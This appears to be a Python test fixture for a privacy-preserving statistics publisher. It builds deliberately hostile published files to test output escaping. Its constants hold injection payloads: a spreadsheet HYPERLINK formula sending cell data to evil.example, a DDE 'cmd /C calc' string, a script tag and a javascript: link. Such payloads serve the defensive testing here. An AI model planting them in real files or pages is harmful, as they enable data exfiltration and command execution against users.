"""A published file as the worst publisher would have it: titles, labels and words that mean something elsewhere."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from tests.aggregates_world import MemoryLedger, utc, world_in
from tests.numbers_world import VISITS, Visit, events_of, visits
from tests.unit.aggregates.ledger.ledgers import END, NOW, of, opened, settlement

from quietcount_aggregates.catalogue import resolve
from quietcount_aggregates.description import Description, Label
from quietcount_aggregates.ledger.entries import StateLost
from quietcount_aggregates.noise import DiscreteLaplace
from quietcount_aggregates.publication.publication import publish
from quietcount_aggregates.tables import AskedTable
from quietcount_schemas.events.numbers import Buckets
from quietcount_schemas.events.periods import Period

__all__ = ["BACKSLASH", "FORMULA", "LABELS", "PUBLISHER", "empty_file", "hostile_file", "numbers_file"]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
PUBLISHER = f'{FORMULA}\r\n<script>alert(1)</script> | [x](javascript:alert(1)) "Ромашка"'
BACKSLASH = "'quoted'; \"twice\" \\ and ;=1+1"
LABELS = {"": "Colour, or «цвет»", "RED": FORMULA, "GREEN": "1-2", "OTHER": "+7 «ред»"}

_ASKED = of(
    "asked",
    title="@SUM(1+1)*cmd|' /C calc'!A0",
    description=f"-1+1\nSecond line | with a bar; {BACKSLASH}",
    by=["colour", "urgent"],
    coarser=(AskedTable("quarterly", 0.25, period=Period.QUARTER, where={"colour": ["RED"]}),),
)
_SAID = Description(
    grace=dt.timedelta(days=7),
    publisher=PUBLISHER,
    licence="CC-BY-4.0",
    contact="https://helpline.example/?a=1&b=2",
    citation="=1+1",
    labels=tuple(Label("asked", "colour", "en", symbol, text) for symbol, text in LABELS.items()),
)


def hostile_file(path: Path, *, months: int = 5) -> Path:
    """Publish at `path` so many months of a population, in the midst of which the state was lost."""
    ledger = opened(MemoryLedger(), "2")
    ledger.declare([_ASKED], ledger.chain.opened.lifetime_epsilon, NOW, end=END)
    ledger.describe(_SAID, NOW)
    for month in range(1, months + 1):
        at = dt.datetime(2024, month + 1, 8, 6, 30, tzinfo=dt.UTC)
        bodies = settlement(_ASKED, month)
        ledger.append([body for body in bodies if (body.statistic, body.period_start) not in ledger.chain.withheld], at)
        if month == 2:
            ledger.append([StateLost(1)], at)
    publish(ledger.chain, path)
    return path


def empty_file(path: Path) -> Path:
    """Publish at `path` what is there before the first release, and before anybody described it."""
    ledger = opened(MemoryLedger(), "2")
    ledger.declare([_ASKED], ledger.chain.opened.lifetime_epsilon, NOW, end=END)
    publish(ledger.chain, path)
    return path


def numbers_file(folder: Path) -> Path:
    """Publish in `folder` a quarter of two populations with buckets, some of them below 0, and with averages."""
    populations = [
        visits(),
        resolve(
            "ages",
            events=["Visited"],
            registry=VISITS,
            period=Period.MONTH,
            since=dt.date(2024, 1, 1),
            tables=[
                AskedTable("by_age", 1.0, by=[Buckets("age", (-5, 0, 18))]),
            ],
        ),
    ]
    told = [
        Visit(dt.date(2024, month, 1), days, "NEW", days - 5 if days % 2 else None)
        for month in (1, 2, 3)
        for days in range(90)
    ]
    with world_in(folder, populations, registry=VISITS, mechanism=DiscreteLaplace()) as world:
        world.emit(events_of(told))
        world.fold(dt.date(2024, 4, 2))
        world.release(utc(dt.date(2024, 4, 1)))
        return world.public
